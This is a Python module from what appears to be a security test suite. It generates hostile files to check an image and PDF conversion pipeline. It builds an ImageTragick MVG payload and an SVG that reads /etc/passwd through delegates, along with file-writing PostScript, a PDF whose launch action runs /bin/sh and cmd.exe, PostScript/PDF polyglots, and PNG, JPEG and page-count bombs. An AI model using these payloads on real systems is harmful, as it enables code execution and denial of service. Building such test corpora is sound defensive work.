"""Hostile inputs, built byte by byte: files that try to reach ImageMagick delegates, run code
through Ghostscript, or exhaust memory. `python -m tests.security.corpus DIR` writes them all."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

from tests.fixtures.make import png_chunk

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def mvg_payload(marker: Path) -> bytes:
    """ImageTragick (CVE-2016-3714): MVG whose fill URL would run a shell through a delegate."""
    return (
        b"push graphic-context\nviewbox 0 0 640 480\n"
        b'fill \'url(https://example.com/x.jpg"|touch "%s")\'\npop graphic-context\n'
        % str(marker).encode()
    )


def svg_payload(marker: Path) -> bytes:
    """SVG that asks for a delegate (msl:, ephemeral:, url) to read or write files."""
    return (
        b'<?xml version="1.0" standalone="no"?>\n'
        b'<svg width="640" height="480" xmlns="http://www.w3.org/2000/svg"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink">\n'
        b'<image xlink:href="msl:%s" height="100" width="100"/>\n'
        b'<image xlink:href="ephemeral:/etc/passwd" height="100" width="100"/>\n'
        b'<image xlink:href="https://example.com/x.png|touch %s" height="100" width="100"/>\n'
        b"</svg>\n" % (str(marker).encode(), str(marker).encode())
    )


def postscript_payload(marker: Path) -> bytes:
    """PostScript that writes a file when interpreted."""
    return b"%%!PS-Adobe-3.0\n(%s) (w) file dup (owned) writestring closefile\nshowpage\n" % (
        str(marker).encode()
    )


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def pdf_with_actions(marker: Path) -> bytes:
    """A one-page PDF whose /OpenAction launches a shell, with document-level JavaScript, a
    page /AA JavaScript action, and a PostScript XObject that writes a file."""
    path = str(marker).encode()
    js = b"app.launchURL('file://%s'); this.exportDataObject({cName: 'x', nLaunch: 2});" % path
    ps = b"(%s) (w) file dup (owned) writestring closefile" % path
    content = b"q 1 0 0 1 0 0 cm /P0 Do Q 0 0 1 rg 10 10 50 50 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >>"
        b" /AA << /WC 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 8 0 R"
        b" /Resources << /XObject << /P0 9 0 R >> >> /AA << /O 6 0 R >> >>",
        b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch %s') >>"
        b" /Win << /F (cmd.exe) /P (/c echo > %s) >> /Next 6 0 R >>" % (path, path),
        b"<< /Names [(run) 6 0 R] >>",
        b"<< /S /JavaScript /JS 7 0 R >>",
        _stream(js),
        _stream(content),
        _stream(ps, b"/Type /XObject /Subtype /PS"),
    ]
    return _pdf(objects)


def pdf_with_ps_operator(marker: Path) -> bytes:
    """A page whose content stream uses the deprecated `PS` operator to run PostScript."""
    ps = b"(%s) (w) file dup (owned) writestring closefile" % str(marker).encode()
    content = b"(" + ps.replace(b"(", b"\\(").replace(b")", b"\\)") + b") PS 0 0 1 rg 0 0 9 9 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>",
        _stream(content),
    ]
    return _pdf(objects)


def postscript_pdf_polyglot(marker: Path, pdf: bytes) -> bytes:
    """PostScript that writes a file, followed by a valid PDF: `%PDF-` is within the first
    1024 bytes, so a lenient sniffer calls it a PDF, while Ghostscript would run it as
    PostScript."""
    return postscript_payload(marker) + pdf


def junk_pdf_polyglot(marker: Path, pdf: bytes) -> bytes:
    """PostScript without the `%!` header before a valid PDF (leading junk Acrobat allows)."""
    return b"(%s) (w) file closefile\n" % str(marker).encode() + pdf


def pdf_page(width_pt: float, height_pt: float) -> bytes:
    """A one-page PDF with a page of this size and a little content."""
    content = b"0 0 1 rg 0 0 %.2f %.2f re f" % (width_pt / 2, height_pt / 2)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %.2f %.2f] /Contents 4 0 R >>"
            % (width_pt, height_pt),
            _stream(content),
        ]
    )


def pdf_many_pages(count: int = 100_000, fanout: int = 1000) -> bytes:
    """A real page tree of `count` pages (intermediate nodes of `fanout` kids each), all
    sharing one content stream: ~5 MB that would take long to walk page by page."""
    nodes = (count + fanout - 1) // fanout
    first_page = 4 + nodes  # 1 catalog, 2 root, 3 content, then nodes, then pages
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (4 + i) for i in range(nodes)), count),
        _stream(b"0 0 1 rg 0 0 9 9 re f"),
    ]
    for i in range(nodes):
        kids = range(first_page + i * fanout, first_page + min(count, (i + 1) * fanout))
        objects.append(
            b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>"
            % (b" ".join(b"%d 0 R" % k for k in kids), len(kids))
        )
    for i in range(count):
        objects.append(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 72 72] /Contents 3 0 R >>"
            % (4 + i // fanout)
        )
    return _pdf(objects)


def pdf_lying_count(count: int = 100_000) -> bytes:
    """One real page under a page tree that declares `count` pages."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
        ]
    )


def png_bomb(side: int = 50_000) -> bytes:
    """A ~100 KB PNG declaring side x side RGB pixels, its first rows really compressed."""
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compressobj(9)
    body = b"".join(rows.compress(b"\0" * (side * 3 + 1)) for _ in range(300)) + rows.flush()
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", body)
        + png_chunk(b"IEND", b"")
    )


def png_bomb_within_sides(width: int = 15_000, height: int = 15_000) -> bytes:
    """A PNG within ImageMagick's side limit but over the pixel limit (225 MP)."""
    return png_bomb_sized(width, height)


def png_bomb_sized(width: int, height: int) -> bytes:
    """A PNG declaring width x height whose compressed rows are all zero (a few hundred KB)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compressobj(9)
    row = b"\0" * (width * 3 + 1)
    body = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", body)
        + png_chunk(b"IEND", b"")
    )


def jpeg_bomb(width: int = 65_000, height: int = 65_000) -> bytes:
    """A tiny baseline JPEG whose frame header declares width x height (4.2 GP)."""
    from io import BytesIO

    from PIL import Image

    buffer = BytesIO()
    Image.new("RGB", (8, 8), (200, 10, 10)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def write_all(out: Path, marker: Path) -> dict[str, Path]:
    """Every hostile file, by name (with the name an attacker would give it)."""
    out.mkdir(parents=True, exist_ok=True)
    base = pdf_page(200, 200)
    files = {
        "mvg.png": mvg_payload(marker),
        "mvg.jpg": mvg_payload(marker),
        "svg.png": svg_payload(marker),
        "svg.jpg": svg_payload(marker),
        "postscript.pdf": postscript_payload(marker),
        "postscript.png": postscript_payload(marker),
        "ps-polyglot.pdf": postscript_pdf_polyglot(marker, base),
        "junk-polyglot.pdf": junk_pdf_polyglot(marker, base),
        "actions.pdf": pdf_with_actions(marker),
        "ps-operator.pdf": pdf_with_ps_operator(marker),
        "png-bomb.png": png_bomb(),
        "jpeg-bomb.jpg": jpeg_bomb(),
        "page-200in.pdf": pdf_page(14_400, 14_400),
        "page-201in.pdf": pdf_page(14_472, 14_472),
        "pages-100000.pdf": pdf_many_pages(),
        "count-lie.pdf": pdf_lying_count(),
    }
    paths = {}
    for name, data in files.items():
        (out / name).write_bytes(data)
        paths[name] = out / name
    return paths


if __name__ == "__main__":
    import sys

    target = Path(sys.argv[1])
    for name, path in write_all(target, target / "MARKER").items():
        sys.stdout.write(f"{name:22} {path.stat().st_size:>10}\n")
